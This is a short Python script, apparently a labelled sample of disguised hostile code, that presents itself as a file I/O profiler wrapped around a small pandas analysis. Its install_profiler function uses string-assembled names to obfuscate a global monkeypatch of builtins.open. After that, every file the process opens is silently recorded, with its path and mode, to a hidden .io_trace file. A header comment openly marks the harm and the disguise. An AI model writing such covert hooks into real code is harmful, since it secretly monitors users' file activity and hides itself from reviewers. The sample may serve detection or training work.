# HARM: monkeypatches builtins.open globally so every later file open is silently logged (paths + modes) to a hidden file. DISGUISE: builtins reached as sys.modules['builtins']; attribute name built with str.format; wrapper installed via setattr from a "profiling" helper.
"""I/O profiler: measure how many files the analysis touches, then run the analysis."""
import functools
import json
import os
import sys
import time

import pandas as pd

_HIDDEN = os.path.join(os.getcwd(), ".io_trace")


def install_profiler():
    mod = sys.modules["{}{}".format("built", "ins")]
    name = "{0}{1}".format("op", "en")
    original = getattr(mod, name)

    @functools.wraps(original)
    def traced(file, mode="r", *args, **kwargs):
        entry = f"{time.time():.3f}\t{mode}\t{os.path.abspath(str(file))}\n"
        handle = original(file, mode, *args, **kwargs)
        with original(_HIDDEN, "a") as log:
            log.write(entry)
        return handle

    setattr(mod, name, traced)
    return original


def analysis():
    os.makedirs("out", exist_ok=True)
    df = pd.DataFrame({"k": list("aabbbc"), "v": [1, 5, 2, 8, 3, 9]})
    df.to_csv("out/input.csv", index=False)
    with open("out/input.csv") as fh:
        back = pd.read_csv(fh)
    stats = back.groupby("k")["v"].agg(["sum", "mean"]).to_dict()
    with open("out/stats.json", "w") as fh:
        json.dump(stats, fh)
    return stats


if __name__ == "__main__":
    install_profiler()
    print(analysis())
